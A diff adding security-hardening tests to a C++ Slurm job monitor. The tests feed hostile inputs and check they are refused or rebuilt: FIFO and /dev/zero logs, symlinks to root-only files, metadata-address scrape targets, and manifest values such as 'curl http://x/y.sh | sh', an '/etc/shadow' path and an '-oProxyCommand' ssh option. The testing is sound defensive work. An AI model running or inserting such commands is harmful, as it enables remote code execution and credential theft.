@@ -11,12 +11,17 @@
 #include <prometheus/registry.h>
 #include <sqlite3.h>
 #include <sys/socket.h>
+#include <sys/stat.h>
 #include <unistd.h>
 
+#include <chrono>
 #include <filesystem>
 #include <fstream>
+#include <thread>
 
 #include "jobmon/alerts/notifier.h"
+#include "jobmon/common/tunnel.h"
+#include "jobmon/monitor/diag_files.h"
 #include "jobmon/monitor/discovery.h"
 #include "jobmon/monitor/event_log.h"
 #include "jobmon/monitor/heartbeat_classifier.h"
@@ -327,6 +332,51 @@ name_regex = "llama-.*"
   EXPECT_FALSE(ParseMonitorConfig("[monitor\n").ok());
 }
 
+// Hardening items 11 and 12: metrics_listen is one loopback address:port;
+// civetweb would also bind what follows a comma (or take 's'/'r' suffixes).
+TEST(MonitorConfig, MetricsListenIsExactlyOneLoopbackAddress) {
+  for (const char* good :
+       {"127.0.0.1:9188", "[::1]:9188", "127.0.0.2:1", "[::ffff:127.0.0.1]:9188"}) {
+    EXPECT_TRUE(
+        ParseMonitorConfig(std::string("[monitor]\nmetrics_listen = \"") + good + "\"\n").ok())
+        << good;
+    EXPECT_TRUE(ParseMetricsListen(good).ok()) << good;
+  }
+  for (const char* bad :
+       {"127.0.0.1:1,0.0.0.0:2", "127.0.0.1:1,2", "127.0.0.1:9188s", "127.0.0.1:9188r",
+        "127.0.0.1:+9188", "+9188", "9188", "[::ffff:0.0.0.0]:9188", "[::]:9188", "10.0.0.1:9188",
+        "localhost:9188", "127.0.0.1:9188 "}) {
+    auto parsed =
+        ParseMonitorConfig(std::string("[monitor]\nmetrics_listen = \"") + bad + "\"\n", "x.toml");
+    EXPECT_FALSE(parsed.ok()) << bad;
+    if (!parsed.ok()) {
+      EXPECT_NE(parsed.error().message.find("x.toml: monitor.metrics_listen"), std::string::npos);
+    }
+    EXPECT_FALSE(ParseMetricsListen(bad).ok()) << bad;
+  }
+}
+
+// Hardening item 14: a misspelt key would leave its default in force silently.
+TEST(MonitorConfig, UnknownKeysAreRefusedByName) {
+  struct Case {
+    const char* toml;
+    const char* named;
+  };
+  for (const Case& c : {Case{"[monitor]\npoll_intervall = \"5s\"\n", "monitor.poll_intervall"},
+                        Case{"[monitor.stall]\nmin_stal = 30\n", "monitor.stall.min_stal"},
+                        Case{"[monitor.select]\nuser = [\"alice\"]\n", "monitor.select.user"},
+                        Case{"[monitor.selct]\nusers = [\"alice\"]\n", "monitor.selct"},
+                        Case{"[monitor]\nstall = 5\n", "monitor.stall"}}) {
+    auto parsed = ParseMonitorConfig(c.toml, "x.toml");
+    ASSERT_FALSE(parsed.ok()) << c.toml;
+    EXPECT_NE(parsed.error().message.find(std::string("x.toml: ") + c.named), std::string::npos)
+        << parsed.error().message;
+  }
+  EXPECT_FALSE(ParseMonitorConfig("monitor = 1\n").ok());
+  // Other sections are not the monitor's to judge.
+  EXPECT_TRUE(ParseMonitorConfig("[triage]\nwhatever = 1\n[alerts]\nmax_backoff = 5\n").ok());
+}
+
 TEST(MonitorConfig, TheShippedExampleParsesToTheDefaults) {
   auto shipped = LoadMonitorConfig(JOBMON_SOURCE_DIR "/etc/jobmon.toml");
   ASSERT_TRUE(shipped.ok()) << shipped.error().message;
@@ -494,6 +544,294 @@ TEST(EventLog, LogfmtQuotesWhatNeedsIt) {
       RenderLogfmt("incident_opened",
                    {{"job", "7"}, {"summary", "no step for 8s"}, {"empty", ""}, {"q", "a\"b\nc"}}),
       "incident_opened job=7 summary=\"no step for 8s\" empty=\"\" q=\"a\\\"b\\nc\"");
+}
+
+// ------------------------------------------------------------------ the job's user
+// Everything below is what a job's user can put where the daemon reads.
+
+double Seconds(std::chrono::steady_clock::time_point since) {
+  return std::chrono::duration<double>(std::chrono::steady_clock::now() - since).count();
+}
+
+size_t Count(const RecordingLog& log, const std::string& text) {
+  size_t n = 0;
+  for (const auto& l : log.lines) n += l.find(text) != std::string::npos;
+  return n;
+}
+
+// A second, well-behaved job next to the hostile one must keep being followed.
+class HostileJobTest : public MonitorTest {
+ protected:
+  void SetUp() override {
+    MonitorTest::SetUp();
+    chmod(dir.path().c_str(), 0755);  // the job user (nobody, below) may traverse it
+    hostile_log = dir.path() + "/hostile.out";
+  }
+  void AddHostile(uid_t uid = 0) {
+    SlurmJob j = Job(9, hostile_log);
+    j.uid = uid;
+    j.gid = uid;
+    source.jobs.push_back(j);
+  }
+  // Cycles while job 7 trains; each cycle must be quick.
+  void TrainBounded(int64_t from, int64_t to) {
+    for (int64_t s = from; s <= to; ++s) {
+      Append(log_path, Step(s));
+      auto started = std::chrono::steady_clock::now();
+      monitor->Cycle(now += 1);
+      ASSERT_LT(Seconds(started), 1.5) << "cycle " << s << " blocked or spun";
+    }
+    EXPECT_EQ(store->GetProgress(7).value()->last_step, to) << "the other job is still followed";
+  }
+  std::string hostile_log;
+};
+
+TEST_F(HostileJobTest, FifoLogNeitherBlocksNorRepeatsItsWarning) {
+  ASSERT_EQ(mkfifo(hostile_log.c_str(), 0644), 0);
+  AddHostile();
+  TrainBounded(0, 10);
+  EXPECT_EQ(Count(log, "log_unreadable job=9"), 1u) << "logged once, not every cycle";
+  EXPECT_TRUE(log.Has("FIFO"));
+  source.jobs.back().state = "FAILED";  // the end-of-job triage opens it too
+  TrainBounded(11, 12);
+  EXPECT_TRUE(store->GetJob(9).value()->ended_at);
+}
+
+TEST_F(HostileJobTest, DevZeroLogIsRefused) {
+  ASSERT_EQ(symlink("/dev/zero", hostile_log.c_str()), 0);
+  AddHostile();
+  TrainBounded(0, 10);
+  EXPECT_EQ(Count(log, "log_unreadable job=9"), 1u);
+  // The device itself, reached through a directory symlink (not a last-component link).
+  const std::string devdir = dir.path() + "/dev";
+  ASSERT_EQ(symlink("/dev", devdir.c_str()), 0);
+  source.jobs.back().std_out = devdir + "/zero";
+  source.jobs.back().job_id = 10;
+  TrainBounded(11, 15);
+  EXPECT_EQ(Count(log, "log_unreadable job=10"), 1u);
+  EXPECT_TRUE(log.Has("character device"));
+  source.jobs.back().state = "FAILED";  // the end-of-job triage must not read it forever
+  TrainBounded(16, 17);
+  EXPECT_TRUE(store->GetJob(10).value()->ended_at);
+}
+
+TEST_F(HostileJobTest, LogLinkedToARootOnlyFileIsNotReadAsRoot) {
+  const std::string secret = dir.path() + "/root-only";
+  std::ofstream(secret) << "0: completed step: 999, seconds: 1.0\n0: SECRET-LINE\n";
+  chmod(secret.c_str(), 0600);
+  ASSERT_EQ(symlink(secret.c_str(), hostile_log.c_str()), 0);
+  AddHostile(65534);
+  // And a second job whose log is the root-only file itself (no symlink:
+  // e.g. a hard link), for a user that may not read it.
+  SlurmJob direct = Job(10, secret);
+  direct.uid = direct.gid = 65534;
+  source.jobs.push_back(direct);
+  TrainBounded(0, 10);
+  for (uint32_t id : {9u, 10u}) {
+    auto progress = store->GetProgress(id).value();
+    EXPECT_TRUE(!progress || !progress->last_step) << "job " << id << " read the secret";
+  }
+  EXPECT_TRUE(log.Has("log_unreadable job=9"));
+  EXPECT_TRUE(log.Has("log_unreadable job=10"));
+  // As root: the open as the user fails; as anyone else: the mode bits refuse.
+  EXPECT_TRUE(log.Has("Permission denied") || log.Has("not readable by uid 65534"));
+  for (const auto& alert : notifier.sent) {
+    for (const auto& e : alert.evidence) EXPECT_EQ(e.find("SECRET"), std::string::npos);
+  }
+}
+
+// A --diag job: manifest.json in jobmon-diag-<id> next to its log.
+class HostileDiagTest : public HostileJobTest {
+ protected:
+  void SetUp() override {
+    HostileJobTest::SetUp();
+    diag = dir.path() + "/jobmon-diag-9";
+    fs::create_directories(diag + "/targets");
+    fs::permissions(diag, fs::perms(0755));
+    fs::permissions(diag + "/targets", fs::perms(0755));
+    Append(hostile_log, "0: starting\n");
+  }
+  void WriteManifest(const std::string& text) {
+    std::ofstream(diag + "/manifest.json", std::ios::trunc) << text;
+  }
+  std::string diag;
+};
+
+TEST_F(HostileDiagTest, FifoManifestAtDiscoveryOrLaterNeverBlocks) {
+  ASSERT_EQ(mkfifo((diag + "/manifest.json").c_str(), 0644), 0);
+  AddHostile();
+  TrainBounded(0, 5);
+  auto job = store->GetJob(9).value();
+  ASSERT_TRUE(job) << "still followed from its log (partition selected)";
+  EXPECT_EQ(job->source, "config") << "a FIFO is no manifest";
+  // A job discovered with a manifest that later becomes a FIFO.
+  const std::string diag10 = dir.path() + "/jobmon-diag-10";
+  fs::create_directories(diag10);
+  std::ofstream(diag10 + "/manifest.json") << R"({"prometheus": {"port": 9190}})";
+  SlurmJob diag_job = Job(10, dir.path() + "/run-10.out");
+  source.jobs.push_back(diag_job);
+  TrainBounded(6, 8);
+  ASSERT_EQ(store->GetJob(10).value()->source, "manifest");
+  fs::remove(diag10 + "/manifest.json");
+  ASSERT_EQ(mkfifo((diag10 + "/manifest.json").c_str(), 0644), 0);
+  TrainBounded(9, 80);  // the targets are re-read every 60 s at least
+  EXPECT_EQ(Count(log, "diag_file_refused job=10"), 1u) << "logged once";
+}
+
+TEST_F(HostileDiagTest, TargetFilesLinkedToDevZeroOrHugeOrTooManyAreRefused) {
+  WriteManifest(R"({"prometheus": {"port": 9190}})");
+  ASSERT_EQ(symlink("/dev/zero", (diag + "/targets/node1.json").c_str()), 0);
+  const std::string devdir = dir.path() + "/dev";
+  ASSERT_EQ(symlink("/dev", devdir.c_str()), 0);
+  fs::create_directories(diag + "/targets/sub");
+  // A target file that is the device, reached through a directory symlink.
+  ASSERT_EQ(symlink(devdir.c_str(), (diag + "/targets/dev").c_str()), 0);
+  {
+    std::ofstream big(diag + "/targets/node2.json");
+    big << "[" << std::string(kMaxTargetFileBytes, ' ') << "]";
+  }
+  for (int i = 0; i < 300; ++i) {
+    std::ofstream(diag + "/targets/x" + std::to_string(i) + ".json") << "[]";
+  }
+  AddHostile();
+  TrainBounded(0, 10);
+  EXPECT_TRUE(log.Has("diag_file_refused job=9"));
+  EXPECT_TRUE(log.Has("symlink"));
+  EXPECT_TRUE(log.Has("more than 256 target files"));
+  EXPECT_TRUE(log.Has("more than 65536"));
+  const size_t warned = log.lines.size();
+  TrainBounded(11, 20);
+  EXPECT_EQ(log.lines.size(), warned) << "refusals are not repeated every cycle";
+  auto files = ReadDiagTargets(diag, JobUser{0, 0});
+  EXPECT_TRUE(files.targets.empty());
+}
+
+TEST(DiagTargets, HostileTargetListsAreCutDownToTheJobsOwnNodes) {
+  TargetPolicy policy = MakeTargetPolicy({}, "node[1-2]");
+  std::vector<ScrapeTarget> hostile = {
+      {"node1", "10.0.0.11:9400"},            // kept
+      {"node2", "metadata.internal:80"},      // a host name
+      {"node2", "169.254.169.254:80"},        // link-local: cloud metadata
+      {"node2", "8.8.8.8:9400"},              // public
+      {"node2", "172.17.0.2:9400"},           // the docker bridge
+      {"node9", "10.0.0.19:9400"},            // not the job's node
+      {"node2", "10.0.0.12:9400/admin?x=1"},  // a path
+      {"node2", "user@10.0.0.12:9400"},       // userinfo
+      {"node2", "10.0.0.12:0"},               // no port
+      {"node2", "10.0.0.12:65536"},           // no port
+      {"node2", "fd00::12:9400"},             // IPv6 without brackets
+      {"node2", "10.0.0.11:9400"},            // node1's address again
+      {"node2", "10.0.0.12:9400"},            // kept
+      {"node2", "10.0.0.13:9400"},            // node2 again
+  };
+  for (int i = 0; i < 10000; ++i) hostile.push_back({"node1", "10.1.0.1:" + std::to_string(i)});
+  auto checked = CheckTargets(hostile, policy);
+  ASSERT_EQ(checked.kept.size(), 2u);
+  EXPECT_EQ(checked.kept[0].address, "10.0.0.11:9400");
+  EXPECT_EQ(checked.kept[1].address, "10.0.0.12:9400");
+  EXPECT_LE(checked.dropped.size(), 17u) << "the reasons stay bounded too";
+  // Configured CIDRs replace RFC1918; IPv6 in brackets works there.
+  TargetPolicy v6 = MakeTargetPolicy({Cidr::Parse("fd00::/8").value()}, "gpu01");
+  auto ok = CheckTargets({{"gpu01", "[fd00::1]:9400"}, {"gpu01", "10.0.0.1:9400"}}, v6);
+  ASSERT_EQ(ok.kept.size(), 1u);
+  EXPECT_EQ(ok.kept[0].address, "[fd00::1]:9400");
+  // The scraper itself builds the URL only from a literal address.
+  auto results = ScrapeAll({{"n", "example.com:80"}, {"n", "127.0.0.1:1/x"}}, 0.5);
+  EXPECT_FALSE(results[0].ok);
+  EXPECT_EQ(results[0].error, "not a literal IP:port");
+  EXPECT_EQ(results[1].error, "not a literal IP:port");
+}
+
+TEST(Scrape, AnOversizedBodyIsCutOff) {
+  int server = socket(AF_INET, SOCK_STREAM, 0);
+  sockaddr_in address{};
+  address.sin_family = AF_INET;
+  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+  ASSERT_EQ(bind(server, reinterpret_cast<sockaddr*>(&address), sizeof address), 0);
+  ASSERT_EQ(listen(server, 1), 0);
+  socklen_t length = sizeof address;
+  getsockname(server, reinterpret_cast<sockaddr*>(&address), &length);
+  std::thread answer([server] {
+    int client = accept(server, nullptr, nullptr);
+    char request[4096];
+    (void)!read(client, request, sizeof request);
+    const std::string body(3 << 20, '#');  // 3 MiB of comment lines
+    const std::string head =
+        "HTTP/1.0 200 OK\r\nContent-Length: " + std::to_string(body.size()) + "\r\n\r\n";
+    (void)!write(client, head.data(), head.size());
+    for (size_t sent = 0; sent < body.size();) {
+      ssize_t n = write(client, body.data() + sent, body.size() - sent);
+      if (n <= 0) break;
+      sent += static_cast<size_t>(n);
+    }
+    close(client);
+  });
+  auto results = ScrapeAll({{"node1", "127.0.0.1:" + std::to_string(ntohs(address.sin_port))}}, 5);
+  answer.join();
+  close(server);
+  ASSERT_EQ(results.size(), 1u);
+  EXPECT_FALSE(results[0].ok);
+  EXPECT_EQ(results[0].error, "response larger than the limit");
+  EXPECT_EQ(kMaxScrapeBody, size_t{2} << 20);
+}
+
+TEST(DiagManifest, TheTunnelCommandIsRebuiltNeverCopied) {
+  const std::string hostile = R"({
+    "schema": "jobmon.manifest/v1", "head_node": "evil; curl x.sh | sh",
+    "tunnel_command": "curl http://x/y.sh | sh",
+    "prometheus": {"port": 9191, "url": "http://evil/"},
+    "state": "running\u001b[2J", "archive": {"path": "/etc/shadow"}})";
+  ManifestView view = ManifestFromJson(hostile, "gpu[07-08]", "/d");
+  EXPECT_EQ(view.head_node, "gpu07") << "Slurm's first node, not the file's";
+  EXPECT_EQ(view.tunnel_command, "ssh -N -L 9191:127.0.0.1:9191 gpu07");
+  EXPECT_EQ(view.tunnel_command, TunnelCommand("gpu07", 9191)) << "the plugin's format";
+  EXPECT_EQ(view.url, "http://127.0.0.1:9191");
+  EXPECT_EQ(view.state, "") << "not a plain word";
+  EXPECT_EQ(view.archive_path, "") << "outside the diag dir";
+  for (const char* port : {"80", "70000", "\"9190\"", "9190.5", "-1"}) {
+    ManifestView bad =
+        ManifestFromJson(std::string(R"({"prometheus": {"port": )") + port + "}}", "n1", "/d");
+    EXPECT_EQ(bad.tunnel_command, "") << port;
+  }
+  EXPECT_EQ(ManifestFromJson(R"({"prometheus": {"port": 9190}})", "-oProxyCommand=x", "/d")
+                .tunnel_command,
+            "")
+      << "a node name that is an ssh option";
+  EXPECT_EQ(ManifestFromJson(R"({"archive": {"path": "/d/tsdb.tar.zst"}, "state": "archived"})",
+                             "n1", "/d")
+                .archive_path,
+            "/d/tsdb.tar.zst");
+}
+
+TEST_F(HostileDiagTest, AlertsCarryTheRebuiltTunnelCommand) {
+  WriteManifest(R"({"head_node": "x", "tunnel_command": "curl http://x/y.sh | sh",
+                    "prometheus": {"port": 9195}})");
+  AddHostile();
+  source.jobs = {source.jobs.back()};  // only the --diag job
+  for (int64_t s = 0; s <= 40; ++s) {
+    Append(hostile_log, Step(s));
+    monitor->Cycle(now += 1);
+  }
+  for (int i = 0; i < 40; ++i) monitor->Cycle(now += 1);
+  ASSERT_FALSE(notifier.sent.empty()) << "a stall incident";
+  EXPECT_EQ(notifier.sent[0].tunnel_command, "ssh -N -L 9195:127.0.0.1:9195 node1");
+}
+
+TEST_F(MonitorTest, EndOfJobScanOfASparseTerabyteIsBounded) {
+  Train(0, 20);
+  Append(log_path, "0: Traceback (most recent call last):\n0: ValueError: bad batch\n");
+  // 10 GiB of holes after the last line, then the end of the job: the
+  // follower has read what was written; the triage reads head and tail.
+  const auto size = static_cast<off_t>(fs::file_size(log_path));
+  ASSERT_EQ(truncate(log_path.c_str(), size + (off_t{10} << 30)), 0);
+  Append(log_path, "\n0: Traceback (most recent call last):\n0: ValueError: bad batch\n");
+  source.jobs = {Job(7, log_path, "FAILED")};
+  auto started = std::chrono::steady_clock::now();
+  monitor->Cycle(now += 1);
+  EXPECT_LT(Seconds(started), 3) << "a sparse 10 GiB log was read whole";
+  auto job = store->GetJob(7).value();
+  ASSERT_TRUE(job->ended_at);
+  EXPECT_EQ(job->final_class, "python-exception") << "found in the tail";
 }
 
 }  // namespace
